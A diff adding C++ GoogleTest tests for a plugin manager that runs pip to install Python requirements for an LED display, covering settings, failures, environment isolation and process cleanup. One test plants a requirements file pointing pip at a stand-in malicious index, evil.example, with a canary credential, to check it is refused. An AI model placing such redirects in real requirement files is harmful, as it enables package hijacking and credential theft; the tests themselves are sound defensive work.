@@ -1,6 +1,11 @@
 // What a plugin needs of the Python that runs the display.
 #include <gmock/gmock.h>
 
+#include <algorithm>
+#include <fstream>
+#include <iterator>
+
+#include "support/snapshot.h"
 #include "support/trueup_run.h"
 
 namespace trueup::test {
@@ -36,6 +41,25 @@ struct Requirements : testing::Test {
     while (read_file(cmdline).find("run.py") == std::string::npos) {
     }
   }
+  fs::path runs() { return home.root() / "runs"; }  // a line for each, written by what stands in for pip
+  std::size_t times_run() {
+    const std::string lines = fs::exists(runs()) ? read_file(runs()) : std::string();
+    return static_cast<std::size_t>(std::ranges::count(lines, '\n'));
+  }
+  void allow(const char* policy = "install") {
+    home.write("config/trueup/settings.json", std::string(R"({"python_requirements": ")") + policy + "\"}");
+  }
+  /// The display's Python, with a pip that goes on with `then`.
+  void stand_in(const std::string& then) {
+    home.write("venv/bin/python3", "#!/bin/sh\necho \"$@\" >>" + runs().string() + "\nenv >" +
+                                       (home.root() / "environment").string() + "\n" + then);
+    fs::permissions(home.root() / "venv/bin/python3", fs::perms::owner_all);
+  }
+  void let_pip_work() {
+    stand_in("echo 'Successfully installed requests-2.31.0'\nmkdir -p " +
+             (packages() / "requests-2.31.0.dist-info").string() + "\n");
+  }
+  void let_pip_fail() { stand_in("echo 'ERROR: No matching distribution found for requests' >&2\nexit 1\n"); }
   const ShownFinding* missing(const Shown& shown) { return shown.finding("plugin_incompatible:weather:requirements"); }
 };
 
@@ -69,6 +93,153 @@ TEST_F(Requirements, of_what_is_off_or_cannot_be_told_are_nobodys_business) {
   EXPECT_NE(missing(trueup.plan()), nullptr);
   fs::remove_all(home.root() / "venv/lib");
   EXPECT_EQ(missing(trueup.plan()), nullptr) << "packages that could not be found are not packages that are missing";
+}
+
+TEST_F(Requirements, are_installed_by_a_pass_only_where_the_settings_say_so_and_once) {
+  start_display();
+  let_pip_work();
+  for (const char* policy : {"", "tell"}) {
+    if (*policy != 0) allow(policy);
+    trueup.reconcile();
+    EXPECT_EQ(trueup.run({"reconcile", "--retry"}).exit_status, 0);
+    EXPECT_EQ(times_run(), 0U) << policy;
+  }
+  allow();
+  EXPECT_EQ(trueup.plan().ran.exit_status, 2);
+  EXPECT_EQ(times_run(), 0U) << "a plan runs nothing";
+  const Shown done = trueup.reconcile();
+  EXPECT_EQ(done.ran.exit_status, 0) << done.ran.output;
+  ASSERT_EQ(done.fixed.size(), 1U);
+  EXPECT_EQ(done.fixed[0].finding, "plugin_incompatible:weather:requirements");
+  EXPECT_EQ(read_file(runs()), "-m pip install --break-system-packages -r " +
+                                   (home.plugin("weather") / "requirements.txt").string() + "\n");
+  EXPECT_EQ(missing(trueup.plan()), nullptr);
+  trueup.reconcile();
+  EXPECT_EQ(times_run(), 1U);
+  EXPECT_TRUE(fs::exists(marker())) << "it is true now, and LEDMatrix need not run pip once more";
+}
+
+TEST_F(Requirements, a_setting_that_nobody_can_mean_is_refused) {
+  allow("always");
+  const auto ran = trueup.run({"reconcile"});
+  EXPECT_EQ(ran.exit_status, 1);
+  EXPECT_THAT(ran.errors, HasSubstr("it can be tell or install"));
+}
+
+TEST_F(Requirements, that_pip_cannot_install_leave_the_plugin_whole_and_wait_until_they_are_retried) {
+  start_display();
+  let_pip_fail();
+  allow();
+  write_file(marker(), "");
+  const auto before = take_snapshot(home.plugin("weather"));
+  EXPECT_EQ(trueup.reconcile().ran.exit_status, 3);
+  EXPECT_EQ(difference(before, take_snapshot(home.plugin("weather"))), "");
+  EXPECT_THAT(read_file(home.root() / ".trueup/pip/weather.txt"), HasSubstr("No matching distribution"));
+  const Shown plan = trueup.plan();
+  const ShownFinding* found = missing(plan);
+  ASSERT_NE(found, nullptr);
+  EXPECT_EQ(found->reason, "requirements_wait");
+  EXPECT_THAT(found->advice, HasSubstr("No matching distribution"));
+  EXPECT_THAT(found->advice, HasSubstr(".trueup/pip/weather.txt"));
+  EXPECT_THAT(trueup.run({"history"}).output, HasSubstr("the Python packages of weather are not installed"));
+  trueup.reconcile();
+  EXPECT_EQ(times_run(), 1U);
+  trueup.run({"reconcile", "--retry"});
+  EXPECT_EQ(times_run(), 2U);
+  let_pip_work();
+  EXPECT_EQ(trueup.run({"reconcile", "weather"}).exit_status, 0) << "by name it does not wait either";
+  EXPECT_EQ(times_run(), 3U);
+  EXPECT_EQ(missing(trueup.plan()), nullptr);
+}
+
+TEST_F(Requirements, are_installed_behind_an_install_and_an_update_which_stand_whatever_comes_of_it) {
+  start_display();
+  home.offer("clock", "1.0.0");
+  let_pip_fail();
+  allow();
+  const auto installed = trueup.run({"install", "clock"});
+  EXPECT_EQ(installed.exit_status, 0) << installed.output;
+  EXPECT_THAT(installed.output, HasSubstr("clock 1.0.0 is installed"));
+  EXPECT_THAT(installed.output, HasSubstr("the Python packages of clock are not installed: pip failed with exit"));
+  EXPECT_EQ(trueup.list()["clock"].state, "healthy");
+  EXPECT_EQ(times_run(), 1U);
+  home.offer("clock", "1.1.0");
+  let_pip_work();
+  const auto updated = trueup.run({"update", "clock"});
+  EXPECT_EQ(updated.exit_status, 0) << updated.output;
+  EXPECT_THAT(updated.output, HasSubstr("pip installed requests"));
+  EXPECT_EQ(trueup.list()["clock"].version, "1.1.0");
+  EXPECT_EQ(times_run(), 2U);
+}
+
+TEST_F(Requirements, of_a_plugin_that_comes_back_are_installed_by_the_same_pass) {
+  start_display();
+  let_pip_work();
+  allow();
+  home.offer("clock", "1.0.0").set_enabled("clock", true).record("clock", true);
+  home.set_enabled("weather", false).record("weather", false, "1.0.0");
+  const Shown done = trueup.reconcile();
+  EXPECT_TRUE(fs::exists(home.plugin("clock") / "manifest.json")) << done.ran.output;
+  EXPECT_EQ(times_run(), 1U);
+  EXPECT_EQ(trueup.plan().steps_to_do(), 0U);
+}
+
+TEST_F(Requirements, pip_gets_no_variable_of_ours) {
+  start_display();
+  let_pip_work();
+  allow();
+  trueup.run({"reconcile"}, {.environment = {{"GITHUB_TOKEN", "canary"}, {"HTTPS_PROXY", "http://me:canary@proxy"}}});
+  ASSERT_EQ(times_run(), 1U);
+  EXPECT_EQ(read_file(home.root() / "environment").find("canary"), std::string::npos);
+}
+
+TEST_F(Requirements, in_a_file_that_says_from_where_to_take_them_are_left_to_a_person) {
+  start_display();
+  let_pip_work();
+  allow();
+  write_file(home.plugin("weather") / "requirements.txt",
+             "requests>=2.0.0\n--index-url http://me:canary@evil.example\n");
+  const Shown done = trueup.reconcile();
+  EXPECT_EQ(times_run(), 0U);
+  const Shown plan = trueup.plan();
+  const ShownFinding* found = missing(plan);
+  ASSERT_NE(found, nullptr);
+  EXPECT_EQ(found->reason, "requirements_not_plain");
+  EXPECT_THAT(found->advice, HasSubstr("line 2"));
+  EXPECT_EQ(plan.ran.output.find("canary"), std::string::npos);
+}
+
+TEST_F(Requirements, whoever_ends_trueup_ends_the_pip_that_it_runs_with_all_that_it_started) {
+  start_display();
+  const fs::path child = home.root() / "child";
+  stand_in("sleep 1000 &\necho $! >" + child.string() + ".new\nmv " + child.string() + ".new " + child.string() +
+           "\nwait\n");
+  allow();
+  std::string line;
+  for (const std::string& word : trueup.command({"reconcile"})) line += "'" + word + "' ";
+  const auto ran = run_command(
+      {"bash", "-c",
+       line + ">/dev/null 2>&1 & until [ -e " + child.string() + " ]; do :; done; kill -TERM $!; wait $!; echo $?"});
+  EXPECT_EQ(ran.output, "143\n") << ran.errors;
+  const std::string status = "/proc/" + read_file(child).substr(0, read_file(child).find('\n')) + "/stat";
+  const auto runs_still = [&status] {
+    std::ifstream file(status);
+    const std::string text((std::istreambuf_iterator<char>(file)), {});
+    return !text.empty() && text.find(") Z") == std::string::npos;
+  };
+  while (runs_still()) {
+  }
+  let_pip_work();
+  EXPECT_EQ(trueup.reconcile().ran.exit_status, 0) << "it was no failure of pip";
+}
+
+TEST_F(Requirements, that_the_owner_ignores_are_not_installed) {
+  start_display();
+  let_pip_work();
+  allow();
+  EXPECT_EQ(trueup.run({"ignore", "plugin_incompatible:weather:requirements"}).exit_status, 0);
+  trueup.reconcile();
+  EXPECT_EQ(times_run(), 0U);
 }
 
 }  // namespace
